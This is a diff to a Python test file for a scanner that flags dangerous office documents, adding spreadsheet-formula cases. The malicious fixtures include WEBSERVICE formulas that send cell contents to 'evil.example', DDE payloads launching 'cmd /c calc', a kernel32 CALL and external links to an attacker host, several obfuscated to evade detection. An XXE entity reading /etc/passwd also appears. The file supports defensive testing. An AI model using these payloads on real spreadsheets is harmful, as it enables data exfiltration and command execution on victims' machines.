@@ -200,6 +200,13 @@ EBML = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm"
 WAV = (
     b"RIFF\x2c\x00\x00\x00WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data\x08\0\0\0" + bytes(8)
 )
+
+
+def formula(said: str) -> bytes:
+    sheet = f"<worksheet><sheetData><row><c r='A1'><f>{said}</f><v>1</v></c></row></sheetData></worksheet>"
+    return office("xl/workbook.xml", **{"xl/worksheets/sheet1.xml": sheet})
+
+
 GOOD = {
     FileKind.JPEG: [picture("JPEG"), picture("WEBP"), (MADE / "telephone.heic").read_bytes()],
     FileKind.PNG: [picture("PNG"), picture("GIF")],
@@ -215,7 +222,10 @@ GOOD = {
                     field(" PAGE "), field(' HYPERLINK \\l "_Toc1" '),
                     field(' HYPERLINK "https://example.org/link/dde" '),
                     field(" REF Link1 "), office(**{"word/document.xml.txt": "IMPORT of LINK and DDE"})],
-    FileKind.XLSX: [office("xl/workbook.xml")],
+    FileKind.XLSX: [office("xl/workbook.xml"),
+                    formula("SUM(A1:A3)&amp;&quot; | of &quot;&amp;'Our sheet'!B2"), formula("IMAGES!A1+CALLS(2)"),
+                    formula("HYPERLINK(&quot;https://example.org&quot;)"),
+                    office("xl/workbook.xml", **{"xl/sharedStrings.xml": "<sst><si><t>WEBSERVICE(1)</t></si></sst>"})],
     FileKind.TEXT: ["Dear Ńgwenya,\r\n\tthe boy < 5 was seen".encode(), "Dear Zoë, £5".encode("cp1252")],
     FileKind.WEBM: [EBML + b"\x86\x86A_OPUS"],
     FileKind.OGG: [b"OggS" + bytes(24) + b"OpusHead" + bytes(20)],
@@ -297,6 +307,7 @@ BAD_PDF = {
         "SubmitForm": "sends itself off", "Launch": "starts other programs", "JavaScript": "a script",
         "ResetForm": DOES, "Hide": DOES, "SetOCGState": DOES}.items()},
 }  # fmt: skip
+FORMULA = "has a formula that fetches something.*Paste special, Values"
 MACROS, PROGRAMS, FETCHES = "has macros", "holds a program or another file", "fetches something from elsewhere"
 ENTITY = "<?xml version='1.0' encoding='{}'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
 MACRO_TYPE = CONTENT_TYPES.format("<Default ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/>")
@@ -364,6 +375,19 @@ BAD_OFFICE = {
         office("xl/workbook.xml", **{"xl/externalLinks/externalLink1.xml": DDE_LINK.format("ddeLink")}), FETCHES),
     "a link of Excel to an object": (
         office("xl/workbook.xml", **{"xl/externalLinks/x.xml": DDE_LINK.format("oleLink").encode("utf-16")}), FETCHES),
+    **{f"the formula {one}": (formula(one), FORMULA) for one in (
+        "WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)", "_xlfn.WEBSERVICE(A1)", "1+_xlfn._xlws.webservice (A1)",
+        "&#87;EBSERVICE(A1)", "WEB<!-- x -->SERVICE(A1)", "WEB<![CDATA[SERVICE(A1)]]>", "_xlfn.IMAGE(A1)",
+        "'&quot;'!A1&amp;WEBSERVICE(A1)&amp;'&quot;'!A1", "RTD(&quot;x&quot;,,1)", "CALL(&quot;kernel32&quot;,1)",
+        "cmd|'/c calc'!A0", "&quot;&quot;&amp;cmd|&apos;/c calc&apos;!A0", "DDEAPP|topic!item",
+        "'\\\\evil.example\\[b.xlsx]S'!A1", "'https://evil.example/[b.xlsx]S'!A1")},
+    "a name that fetches": (
+        office("xl/workbook.xml", **{"xl/x.xml": "<a><definedName name='n'>WEBSERVICE(A1)</definedName></a>"}),
+        FORMULA),
+    "a colour that fetches": (
+        office("xl/workbook.xml", **{
+            "xl/x.xml": "<x:a xmlns:x='x'><x:formula a='&gt;>'>WEBSERVICE(A1)</x:formula></x:a>"}),
+        FORMULA),
     "connections": (office("xl/workbook.xml", **{"xl/Connections.xml": "<a/>"}), FETCHES),
 }  # fmt: skip
 
